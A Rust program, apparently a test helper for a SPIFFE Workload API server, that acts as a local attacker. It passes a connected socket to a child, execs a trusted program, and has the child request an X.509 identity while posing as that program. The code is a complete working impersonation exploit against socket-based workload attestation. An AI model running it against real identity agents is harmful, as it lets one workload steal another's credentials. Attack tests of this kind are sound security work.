//! A local attacker: connects to a Workload API, hands the socket to a child, and becomes a trusted
//! program by exec(2). The child asks for an identity.
//!
//! `handing_over SOCKET PROGRAM`: prints what the child gets.

use std::os::fd::AsFd as _;
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::time::Duration;

use hyper_util::rt::TokioIo;
use sundew_proto::spiffe::X509svidRequest;
use sundew_proto::spiffe::spiffe_workload_api_client::SpiffeWorkloadApiClient;
use tonic::transport::Endpoint;

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    match arguments.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["child"] => child(),
        [socket, program] => parent(socket, program),
        _ => panic!("handing_over SOCKET PROGRAM"),
    }
}

#[expect(
    clippy::zombie_processes,
    reason = "the parent becomes another program"
)]
fn parent(socket: &str, program: &str) {
    let stream = UnixStream::connect(socket).expect("connect");
    Command::new(std::env::current_exe().expect("own path"))
        .arg("child")
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(stream)))
        .spawn()
        .expect("child");
    let error = Command::new(program).arg("10").exec();
    panic!("{error}");
}

#[tokio::main(flavor = "current_thread")]
async fn child() {
    // By now the parent is another program.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let stream = std::io::stdin()
        .as_fd()
        .try_clone_to_owned()
        .expect("socket");
    let stream = UnixStream::from(stream);
    stream.set_nonblocking(true).expect("socket");
    let stream = tokio::net::UnixStream::from_std(stream).expect("socket");
    let stream = Mutex::new(Some(stream));
    let connect = tower::service_fn(move |_| {
        let stream = stream.lock().expect("lock").take();
        async move {
            stream
                .map(TokioIo::new)
                .ok_or(std::io::Error::other("once"))
        }
    });
    let endpoint = Endpoint::from_static("http://localhost");
    let channel = match endpoint.connect_with_connector(connect).await {
        Ok(channel) => channel,
        Err(error) => return println!("refused: {error}"),
    };
    let mut request = tonic::Request::new(X509svidRequest {});
    let header = request.metadata_mut();
    header.insert("workload.spiffe.io", "true".parse().expect("value"));
    let answer = SpiffeWorkloadApiClient::new(channel)
        .fetch_x509svid(request)
        .await;
    let first = match answer {
        Ok(stream) => stream.into_inner().message().await,
        Err(status) => Err(status),
    };
    match first {
        Ok(Some(svids)) => println!("got {}", svids.svids[0].spiffe_id),
        Ok(None) => println!("refused: nothing"),
        Err(status) => println!("refused: {status}"),
    }
}
